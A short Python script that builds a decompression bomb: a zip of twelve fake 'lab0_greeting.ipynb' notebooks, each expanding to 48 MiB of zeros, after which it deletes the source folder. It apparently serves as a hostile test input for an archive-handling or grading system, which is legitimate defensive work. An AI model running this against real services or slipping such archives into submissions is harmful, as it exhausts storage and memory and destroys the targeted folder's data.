"""An archive that grows a thousandfold."""

import shutil
import zipfile
from pathlib import Path


def make(folder: Path) -> None:
    """Compress zeros."""
    with zipfile.ZipFile(folder.with_name(f"{folder.name}.zip"), "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for number in range(12):
            with made.open(f"{number}/lab0_greeting.ipynb", "w") as member:
                for _ in range(6):
                    member.write(b"\0" * 2**23)
    shutil.rmtree(folder)
